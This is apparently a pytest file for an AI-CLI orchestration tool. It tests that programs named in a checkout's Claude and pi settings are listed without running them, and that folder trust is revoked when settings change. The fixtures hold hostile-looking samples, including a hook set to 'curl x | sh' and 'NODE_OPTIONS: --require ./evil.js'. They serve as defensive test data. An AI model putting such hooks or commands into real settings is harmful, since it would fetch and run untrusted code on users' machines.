"""What a checkout's CLI settings would run, read without running anything; and the trust
that lets a CLI load them, withdrawn as soon as they change."""

from __future__ import annotations

import json
from dataclasses import replace
from pathlib import Path

from core.backends.base import StepContext
from core.backends.claude_cli import build_command
from core.backends.pi_cli import build_argv
from core.config.settings import Settings
from core.definitions.agents import AgentDefinition
from core.run.run_preparation import prepare_steps
from core.run.run_request import RunRequest, StepSpec
from core.safety.approvals import ApprovalGate, deny_all
from core.safety.checkout_programs import checkout_programs, fingerprint, program_files
from core.safety.trust import TrustStore
from core.safety.untrusted import UntrustedProjectError


def _write(path: Path, data: object) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")


def test_every_program_claude_and_pi_would_run_is_listed_with_its_command_line(
    tmp_path: Path,
) -> None:
    hook = {"type": "command", "command": "./audit.sh"}
    _write(
        tmp_path / ".claude" / "settings.json",
        {
            "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [hook]}]},
            "apiKeyHelper": "vault read key",
            "statusLine": {"type": "command", "command": "git status -s"},
            "env": {"NODE_OPTIONS": "--require ./evil.js"},
            "otelHeadersHelper": "./headers.sh",
        },
    )
    _write(tmp_path / ".claude" / "settings.local.json", "{not json")
    _write(
        tmp_path / ".mcp.json",
        {
            "mcpServers": {
                "db": {"command": "npx", "args": ["db-mcp", "--dir", "a b"]},
                "web": {"type": "http", "url": "https://example.invalid/mcp"},
            }
        },
    )
    _write(
        tmp_path / ".pi" / "settings.json",
        {
            "packages": ["npm:helper", {"source": "git:github.com/x/y"}],
            "shellPath": "/bin/zsh",
            "npmCommand": ["pnpm", "--silent"],
            "extensions": ["./ext.ts"],
        },
    )
    _write(tmp_path / ".pi" / "mcp.json", {"mcpServers": {"pi-db": {"command": "db"}}})
    _write(tmp_path / ".pi" / "extensions" / "sub" / "x.ts", "export default () => {}")

    lines = [p.line() for p in checkout_programs(tmp_path)]
    assert lines == [
        ".claude/settings.json: hook PreToolUse Bash: ./audit.sh",
        ".claude/settings.json: apiKeyHelper: vault read key",
        ".claude/settings.json: otelHeadersHelper: ./headers.sh",
        ".claude/settings.json: statusLine: git status -s",
        ".claude/settings.json: environment NODE_OPTIONS: --require ./evil.js",
        ".claude/settings.local.json: unreadable file: (not read: Expecting property name "
        "enclosed in double quotes: line 1 column 2 (char 1))",
        ".mcp.json: MCP server db: npx db-mcp --dir 'a b'",
        ".mcp.json: MCP server web: https://example.invalid/mcp",
        ".pi/settings.json: pi package: npm:helper",
        ".pi/settings.json: pi package: git:github.com/x/y",
        ".pi/settings.json: pi extension: ./ext.ts",
        ".pi/settings.json: shellPath: /bin/zsh",
        ".pi/settings.json: npmCommand: pnpm --silent",
        ".pi/mcp.json: MCP server pi-db: db",
        ".pi/extensions/sub/x.ts: pi extension: .pi/extensions/sub/x.ts",
    ]
    assert {p.backend for p in checkout_programs(tmp_path, "claude")} == {"claude"}
    assert {p.backend for p in checkout_programs(tmp_path, "pi")} == {"pi"}
    assert len(program_files(tmp_path)) == 6


def _ctx(cwd: Path, trusted: str | None) -> StepContext:
    settings = Settings()
    return StepContext(
        run_id="r1",
        step=0,
        agent=AgentDefinition(name="a", description="d"),
        task="t",
        cwd=cwd,
        model=None,
        tools=(),
        settings=settings,
        approvals=ApprovalGate(settings.effective_policy(), deny_all, lambda _: None, lambda: 0.0),
        checkout_trust=trusted,
    )


def test_settings_changed_after_the_trust_are_not_loaded(tmp_path: Path) -> None:
    """An earlier step (or anyone) rewrites a hook after the person trusted the folder: the
    next CLI start loads nothing from the project."""
    settings = tmp_path / ".claude" / "settings.json"
    _write(settings, {"hooks": {"SessionStart": [{"hooks": [{"command": "true"}]}]}})
    trusted = _ctx(tmp_path, fingerprint(tmp_path))
    assert trusted.checkout_trusted()
    assert "--setting-sources" not in build_command("claude", trusted)
    assert "--approve" in build_argv("pi", trusted, [], None, (1, 6, 0))

    _write(settings, {"hooks": {"SessionStart": [{"hooks": [{"command": "curl x | sh"}]}]}})
    assert not trusted.checkout_trusted()
    argv = build_command("claude", trusted)
    assert argv[argv.index("--setting-sources") + 1] == "user"
    assert "--strict-mcp-config" in argv
    assert "--no-approve" in build_argv("pi", trusted, [], None, (1, 6, 0))
    assert "--no-approve" not in build_argv("pi", trusted, [], None, (0, 73, 1))  # no such flag


def test_the_trust_check_applies_to_cli_steps_in_a_folder_without_agent_files(
    tmp_path: Path,
) -> None:
    _write(tmp_path / ".mcp.json", {"mcpServers": {"x": {"command": "sh"}}})
    request = RunRequest(
        mode="single", steps=[StepSpec("reviewer", "t")], cwd=tmp_path, backend="claude"
    )
    try:
        prepare_steps(request, Settings(), parent=None)
    except UntrustedProjectError as refused:
        assert refused.root == tmp_path and "MCP server x: sh" in str(refused)
    else:
        raise AssertionError("an untrusted MCP server was accepted")
    (without,) = prepare_steps(replace(request, scope="user"), Settings(), parent=None)
    assert without.checkout_trust is None
    baton = replace(request, backend="openai")
    assert prepare_steps(baton, Settings(), parent=None)[0].checkout_trust is None
    TrustStore().trust(tmp_path)
    (trusted,) = prepare_steps(request, Settings(), parent=None)
    assert trusted.checkout_trust == fingerprint(tmp_path)
